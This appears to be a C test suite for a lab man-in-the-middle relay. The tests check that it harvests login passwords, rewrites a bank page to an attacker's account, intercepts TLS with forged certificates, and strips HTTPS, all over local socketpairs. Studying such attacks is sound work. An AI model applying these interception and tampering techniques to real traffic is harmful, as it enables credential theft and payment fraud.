/* The relay between socketpairs: a victim on one side, a bank on the other, both played by the test in one
 * thread. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "events.h"
#include "torture.h"

#include "mallory/forge.h"
#include "mallory/relay.h"

static const char post[] = "POST /login HTTP/1.1\r\nHost: bank.example\r\n"
                           "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 26\r\n\r\n"
                           "user=alice&password=s3cret";
static const char page[] = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 22\r\n\r\n"
                           "pay to account 123456!";

enum { MAX_BANKS = 40 };

struct fixture {
	uv_loop_t loop;
	struct trace trace;
	struct recorder rec;
	struct loot loot;
	struct relay *relay;
	struct relay_config cfg;
	bool bank_down;
	int banks[MAX_BANKS]; /* the bank's ends */
	size_t n_banks;
};

static int dial(void *ctx, uint16_t port)
{
	struct fixture *f = ctx;
	int sv[2];
	assert_true(port == 80 || port == 443);
	if (f->bank_down || f->n_banks == MAX_BANKS) {
		errno = ECONNREFUSED;
		return -1;
	}
	assert_int_equal(socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0, sv), 0);
	f->banks[f->n_banks++] = sv[1];
	return sv[0];
}

static int setup(void **state)
{
	struct fixture *f = calloc(1, sizeof *f);
	assert_non_null(f);
	assert_int_equal(uv_loop_init(&f->loop), 0);
	trace_init(&f->trace, &clock_real, "mallory");
	recorder_attach(&f->rec, &f->trace);
	loot_init(&f->loot);
	f->cfg = (struct relay_config){.loop = &f->loop,
	    .trace = &f->trace,
	    .loot = &f->loot,
	    .self = "mallory",
	    .bank_name = "bank.example",
	    .rewrite = true,
	    .limit_ms = 10000,
	    .dial = dial,
	    .dial_ctx = f};
	assert_int_equal(relay_new(&f->relay, &f->cfg), ERR_OK);
	*state = f;
	return 0;
}

static void restart(struct fixture *f)
{
	relay_free(f->relay);
	assert_int_equal(relay_new(&f->relay, &f->cfg), ERR_OK);
}

static int teardown(void **state)
{
	struct fixture *f = *state;
	relay_stop(f->relay);
	uv_run(&f->loop, UV_RUN_DEFAULT);
	assert_int_equal(uv_loop_close(&f->loop), 0); /* no handle is left */
	relay_free(f->relay);
	for (size_t i = 0; i < f->n_banks; i++)
		close(f->banks[i]);
	assert_int_equal(trace_release(&f->trace), ERR_OK);
	recorder_release(&f->rec);
	free(f);
	return 0;
}

static void turn(struct fixture *f)
{
	for (int i = 0; i < 5; i++)
		uv_run(&f->loop, UV_RUN_NOWAIT);
}

/* A victim's end of a new connection. */
static int arrive(struct fixture *f, const struct relay_service *service, enum err want)
{
	int sv[2];
	assert_int_equal(socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0, sv), 0);
	assert_int_equal(relay_accept(f->relay, sv[0], "10.66.0.150", service), want);
	return sv[1];
}

static void say(struct fixture *f, int fd, const char *text, size_t piece)
{
	for (size_t i = 0, len = strlen(text); i < len; i += piece) {
		size_t n = len - i < piece ? len - i : piece;
		assert_int_equal(send(fd, text + i, n, MSG_NOSIGNAL), n);
		turn(f);
	}
}

/* What is there; -1 in *end when the other side has closed. */
static size_t hear(int fd, char *out, size_t cap, bool *end)
{
	size_t n = 0;
	ssize_t r;
	while ((r = recv(fd, out + n, cap - 1 - n, 0)) > 0)
		n += (size_t)r;
	*end = r == 0;
	out[n] = '\0';
	return n;
}

static const struct relay_service http = {.scheme = "http", .port = 80};

static void relay_login_gives_password_and_changed_page(void **state)
{
	struct fixture *f = *state;
	for (size_t piece = 1; piece < sizeof post + 60; piece += 60) {
		char heard[2000];
		bool end;
		f->loot.n = 0;
		int victim = arrive(f, &http, ERR_OK);
		say(f, victim, post, piece);
		int bank = f->banks[f->n_banks - 1];
		hear(bank, heard, sizeof heard, &end);
		assert_non_null(strstr(heard, "HTTP/1.0\r\n"));
		assert_non_null(strstr(heard, "user=alice&password=s3cret"));
		say(f, bank, page, piece);
		hear(victim, heard, sizeof heard, &end);
		assert_non_null(strstr(heard, "account " MALLORY_ACCOUNT "!"));
		assert_true(end);
		assert_int_equal(f->loot.n, 2);
		assert_string_equal(f->loot.items[1].value, "s3cret");
		close(victim);
	}
	const struct record *r = relay_record(f->relay, 0);
	assert_int_equal(r->outcome, OUTCOME_RELAYED);
	assert_string_equal(r->request, "POST /login");
	assert_string_equal(r->status, "200");
	assert_int_equal(r->fields, 2);
	assert_int_equal(r->changed, 1);
	assert_int_equal(r->clear_octets, sizeof post - 1);
	json_t *j = relay_json(f->relay);
	assert_int_equal(json_array_size(j), relay_n_records(f->relay));
	json_decref(j);
}

static void relay_two_victims_at_once_are_kept_apart(void **state)
{
	struct fixture *f = *state;
	char heard[2000];
	bool end;
	int a = arrive(f, &http, ERR_OK), b = arrive(f, &http, ERR_OK);
	say(f, a, "GET /a HTTP/1.1\r\n", 99);
	say(f, b, "GET /b HTTP/1.1\r\n\r\n", 99);
	say(f, a, "\r\n", 99);
	assert_int_equal(f->n_banks, 2);
	say(f, f->banks[1], "HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\nA", 99);
	say(f, f->banks[0], "HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\nB", 99);
	for (size_t i = 0; i < 2; i++)
		close(f->banks[i]);
	f->n_banks = 0;
	turn(f);
	assert_int_equal(heard[hear(a, heard, sizeof heard, &end) - 1], 'A');
	assert_int_equal(heard[hear(b, heard, sizeof heard, &end) - 1], 'B');
	close(a);
	close(b);
}

static void relay_bank_that_is_down_gives_502(void **state)
{
	struct fixture *f = *state;
	char heard[2000];
	bool end;
	f->bank_down = true;
	int victim = arrive(f, &http, ERR_OK);
	say(f, victim, post, 999);
	hear(victim, heard, sizeof heard, &end);
	assert_memory_equal(heard, "HTTP/1.1 502", 12);
	assert_int_equal(relay_record(f->relay, 0)->outcome, OUTCOME_NO_BANK);
	close(victim);
}

static void relay_victim_that_leaves_is_recorded(void **state)
{
	struct fixture *f = *state;
	close(arrive(f, &http, ERR_OK));
	turn(f);
	assert_int_equal(relay_record(f->relay, 0)->outcome, OUTCOME_GONE);
}

static void relay_silent_victim_runs_out_of_time(void **state)
{
	struct fixture *f = *state;
	f->cfg.limit_ms = 1;
	restart(f);
	int victim = arrive(f, &http, ERR_OK);
	uv_run(&f->loop, UV_RUN_DEFAULT); /* ends when the timer has closed everything */
	assert_int_equal(relay_record(f->relay, 0)->outcome, OUTCOME_TIMEOUT);
	close(victim);
}

static void relay_too_many_victims_are_turned_away(void **state)
{
	struct fixture *f = *state;
	int fds[RELAY_MAX_CONNECTIONS];
	for (size_t i = 0; i < RELAY_MAX_CONNECTIONS; i++)
		fds[i] = arrive(f, &http, ERR_OK);
	close(arrive(f, &http, ERR_BUDGET));
	relay_stop(f->relay);
	turn(f);
	assert_int_equal(relay_n_records(f->relay), RELAY_MAX_CONNECTIONS);
	assert_int_equal(relay_record(f->relay, 0)->outcome, OUTCOME_STOPPED);
	for (size_t i = 0; i < RELAY_MAX_CONNECTIONS; i++)
		close(fds[i]);
}

static void relay_endless_reply_is_never_held_without_bound(void **state)
{
	struct fixture *f = *state;
	static char chunk[64 * 1024];
	memset(chunk, ' ', sizeof chunk);
	int victim = arrive(f, &http, ERR_OK);
	say(f, victim, "GET / HTTP/1.1\r\n\r\n", 99);
	int bank = f->banks[0];
	say(f, bank, "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n", 99);
	size_t sent = 0;
	for (int i = 0; i < 200; i++) { /* the victim does not read: what the relay takes has an end */
		ssize_t n = send(bank, chunk, sizeof chunk, MSG_NOSIGNAL);
		sent += n > 0 ? (size_t)n : 0;
		turn(f);
	}
	assert_true(sent < 3 * 1024 * 1024);
	close(victim);
}

/* --- TLS --- */

/* A victim's or a bank's TLS over its end, played step by step. */
static SSL *tls_over(SSL_CTX *ctx, int fd, bool server, const char *name)
{
	SSL *s = SSL_new(ctx);
	assert_non_null(s);
	assert_int_equal(SSL_set_fd(s, fd), 1);
	if (server) {
		SSL_set_accept_state(s);
	} else {
		SSL_set_connect_state(s);
		assert_int_equal(SSL_set_tlsext_host_name(s, name), 1);
		assert_int_equal(SSL_set1_host(s, name), 1);
	}
	return s;
}

static bool shake(struct fixture *f, SSL *s)
{
	for (int i = 0; i < 20; i++) {
		int r = SSL_do_handshake(s);
		turn(f);
		if (r == 1)
			return true;
		if (SSL_get_error(s, r) != SSL_ERROR_WANT_READ)
			return false;
	}
	return false;
}

static SSL_CTX *careless_victim(void)
{
	SSL_CTX *c = SSL_CTX_new(TLS_client_method());
	SSL_CTX_set_verify(c, SSL_VERIFY_NONE, NULL);
	return c;
}

struct tls {
	SSL_CTX *mallory, *to_bank, *bank;
	struct relay_service service;
};

/* The true bank has a certificate of a CA that mallory's client trusts, as the lab's CA is by all. */
static void tls_setup(struct tls *t, enum tls_attack a, bool bank_is_true)
{
	STACK_OF(X509) * chain;
	assert_int_equal(forge_context(&t->mallory, a, "bank.example", &clock_real, NULL), ERR_OK);
	assert_int_equal(
	    forge_context(&t->bank, TLS_OWN_CA, bank_is_true ? "bank.example" : "else.example", &clock_real, NULL),
	    ERR_OK);
	assert_int_equal(client_context(&t->to_bank), ERR_OK);
	assert_int_equal(SSL_CTX_get0_chain_certs(t->bank, &chain), 1);
	assert_int_equal(X509_STORE_add_cert(SSL_CTX_get_cert_store(t->to_bank), sk_X509_value(chain, 0)), 1);
	t->service = (struct relay_service){
	    .scheme = "https", .server_ctx = t->mallory, .client_ctx = t->to_bank, .port = 443};
}

static void tls_teardown(struct tls *t)
{
	SSL_CTX_free(t->mallory);
	SSL_CTX_free(t->to_bank);
	SSL_CTX_free(t->bank);
}

static void relay_victim_that_verifies_sends_an_alert_and_no_password(void **state)
{
	struct fixture *f = *state;
	static const enum tls_attack attacks[] = {TLS_SELF_SIGNED, TLS_OWN_CA};
	for (size_t i = 0; i < 2; i++) {
		struct tls t;
		tls_setup(&t, attacks[i], true);
		SSL_CTX *ctx;
		assert_int_equal(client_context(&ctx), ERR_OK);
		int fd = arrive(f, &t.service, ERR_OK);
		SSL *victim = tls_over(ctx, fd, false, "bank.example");
		assert_false(shake(f, victim));
		const struct record *r = relay_record(f->relay, i);
		assert_non_null(r);
		assert_int_equal(r->outcome, OUTCOME_REFUSED);
		assert_string_equal(r->alert, "unknown CA");
		assert_string_equal(r->seen, "ClientHello, alert unknown CA");
		assert_string_equal(r->server_name, "bank.example");
		assert_int_equal(r->clear_octets, 0);
		assert_true(r->wire_octets > 100);
		assert_int_equal(f->loot.n, 0);
		assert_int_equal(f->n_banks, 0);
		assert_non_null(recorder_find(&f->rec, 0, EV_DECISION, "victim-refused", "unknown CA"));
		SSL_free(victim);
		SSL_CTX_free(ctx);
		close(fd);
		tls_teardown(&t);
	}
}

static void relay_careless_victim_loses_the_password(void **state)
{
	struct fixture *f = *state;
	struct tls t;
	tls_setup(&t, TLS_SELF_SIGNED, true);
	SSL_CTX *ctx = careless_victim();
	int fd = arrive(f, &t.service, ERR_OK);
	SSL *victim = tls_over(ctx, fd, false, "bank.example");
	assert_true(shake(f, victim));
	assert_int_equal(SSL_write(victim, post, sizeof post - 1), sizeof post - 1);
	turn(f);
	assert_int_equal(f->loot.n, 2);
	assert_string_equal(f->loot.items[1].value, "s3cret");
	assert_string_equal(f->loot.items[1].where, "https POST /login");

	SSL *bank = tls_over(t.bank, f->banks[0], true, NULL);
	assert_true(shake(f, bank));
	char heard[2000];
	int n = SSL_read(bank, heard, sizeof heard);
	assert_true(n > (int)strlen("user=alice&password=s3cret"));
	assert_int_equal(SSL_write(bank, page, sizeof page - 1), sizeof page - 1);
	turn(f);
	n = SSL_read(victim, heard, sizeof heard - 1);
	assert_true(n > 0);
	heard[n] = '\0';
	assert_non_null(strstr(heard, MALLORY_ACCOUNT));
	assert_int_equal(relay_record(f->relay, 0)->outcome, OUTCOME_RELAYED);
	SSL_free(victim);
	SSL_free(bank);
	SSL_CTX_free(ctx);
	close(fd);
	tls_teardown(&t);
}

static void relay_bank_that_proves_no_name_gets_no_request(void **state)
{
	struct fixture *f = *state;
	struct tls t;
	tls_setup(&t, TLS_SELF_SIGNED, false);
	SSL_CTX *ctx = careless_victim();
	int fd = arrive(f, &t.service, ERR_OK);
	SSL *victim = tls_over(ctx, fd, false, "bank.example");
	assert_true(shake(f, victim));
	assert_int_equal(SSL_write(victim, post, sizeof post - 1), sizeof post - 1);
	turn(f);
	SSL *bank = tls_over(t.bank, f->banks[0], true, NULL);
	assert_false(shake(f, bank));
	char heard[2000];
	assert_true(SSL_read(victim, heard, sizeof heard) > 12);
	assert_memory_equal(heard, "HTTP/1.1 502", 12);
	const struct record *r = relay_record(f->relay, 0);
	assert_int_equal(r->outcome, OUTCOME_NO_BANK);
	assert_string_equal(r->detail, "hostname mismatch");
	SSL_free(victim);
	SSL_free(bank);
	SSL_CTX_free(ctx);
	close(fd);
	tls_teardown(&t);
}

static void relay_garbage_instead_of_tls_is_bad(void **state)
{
	struct fixture *f = *state;
	struct tls t;
	tls_setup(&t, TLS_SELF_SIGNED, true);
	int fd = arrive(f, &t.service, ERR_OK);
	say(f, fd, "GET / HTTP/1.1\r\n\r\n", 99);
	assert_int_equal(relay_record(f->relay, 0)->outcome, OUTCOME_BAD);
	close(fd);
	tls_teardown(&t);
}

static void relay_stripping_speaks_https_with_the_bank_in_the_victims_place(void **state)
{
	struct fixture *f = *state;
	struct tls t;
	struct strip strip = {.n = 0};
	char heard[2000];
	bool end;
	tls_setup(&t, TLS_SELF_SIGNED, true);
	f->cfg.strip = &strip;
	f->cfg.strip_ctx = t.to_bank;
	f->cfg.strip_port = 443;
	restart(f);
	int victim = arrive(f, &http, ERR_OK);
	say(f, victim, post, 999);
	hear(f->banks[0], heard, sizeof heard, &end);
	say(f, f->banks[0], "HTTP/1.1 301 Moved\r\nLocation: https://bank.example/login\r\n\r\n", 999);
	hear(f->banks[0], heard, sizeof heard, &end);
	assert_true(end); /* mallory has left this way */
	assert_int_equal(f->n_banks, 2);
	SSL *bank = tls_over(t.bank, f->banks[1], true, NULL);
	assert_true(shake(f, bank));
	assert_string_equal(SSL_get_servername(bank, TLSEXT_NAMETYPE_host_name), "bank.example");
	int n = SSL_read(bank, heard, sizeof heard - 1);
	assert_true(n > 0);
	heard[n] = '\0';
	assert_non_null(strstr(heard, "user=alice&password=s3cret"));
	assert_int_equal(SSL_write(bank, page, sizeof page - 1), sizeof page - 1);
	turn(f);
	hear(victim, heard, sizeof heard, &end);
	assert_non_null(strstr(heard, "account " MALLORY_ACCOUNT "!"));
	assert_true(end);
	const struct record *r = relay_record(f->relay, 0);
	assert_non_null(r);
	assert_int_equal(r->outcome, OUTCOME_RELAYED);
	assert_true(r->bank_tls && r->kept && !r->tls);
	SSL_free(bank);
	close(victim);
	tls_teardown(&t);
}

static void relay_blind_passes_all_and_reads_the_name_only(void **state)
{
	struct fixture *f = *state;
	struct relay_service blind = {.scheme = "https", .blind = true, .port = 443};
	struct tls t;
	tls_setup(&t, TLS_SELF_SIGNED, true);
	int fd = arrive(f, &blind, ERR_OK);
	turn(f);
	SSL *victim = tls_over(t.to_bank, fd, false, "bank.example");
	SSL *bank = tls_over(t.bank, f->banks[0], true, NULL);
	bool done = false;
	for (int i = 0; i < 20 && !done; i++) {
		int a = SSL_do_handshake(victim);
		turn(f);
		int b = SSL_do_handshake(bank);
		turn(f);
		done = a == 1 && b == 1;
	}
	assert_true(done); /* the victim verified the true bank, through mallory */
	assert_int_equal(SSL_write(victim, post, sizeof post - 1), sizeof post - 1);
	turn(f);
	char heard[2000];
	assert_int_equal(SSL_read(bank, heard, sizeof heard), sizeof post - 1);
	SSL_shutdown(victim);
	SSL_free(victim);
	close(fd);
	SSL_free(bank);
	close(f->banks[0]);
	f->n_banks = 0;
	turn(f);
	const struct record *r = relay_record(f->relay, 0);
	assert_non_null(r);
	assert_int_equal(r->outcome, OUTCOME_PASSED);
	assert_string_equal(r->server_name, "bank.example");
	assert_int_equal(r->clear_octets, 0);
	assert_int_equal(f->loot.n, 0);
	tls_teardown(&t);
}

#define T(name) cmocka_unit_test_setup_teardown(name, setup, teardown)

int main(void)
{
	signal(SIGPIPE, SIG_IGN);
	const struct CMUnitTest tests[] = {
	    T(relay_login_gives_password_and_changed_page),
	    T(relay_two_victims_at_once_are_kept_apart),
	    T(relay_bank_that_is_down_gives_502),
	    T(relay_victim_that_leaves_is_recorded),
	    T(relay_silent_victim_runs_out_of_time),
	    T(relay_too_many_victims_are_turned_away),
	    T(relay_endless_reply_is_never_held_without_bound),
	    T(relay_victim_that_verifies_sends_an_alert_and_no_password),
	    T(relay_careless_victim_loses_the_password),
	    T(relay_bank_that_proves_no_name_gets_no_request),
	    T(relay_garbage_instead_of_tls_is_bad),
	    T(relay_stripping_speaks_https_with_the_bank_in_the_victims_place),
	    T(relay_blind_passes_all_and_reads_the_name_only),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
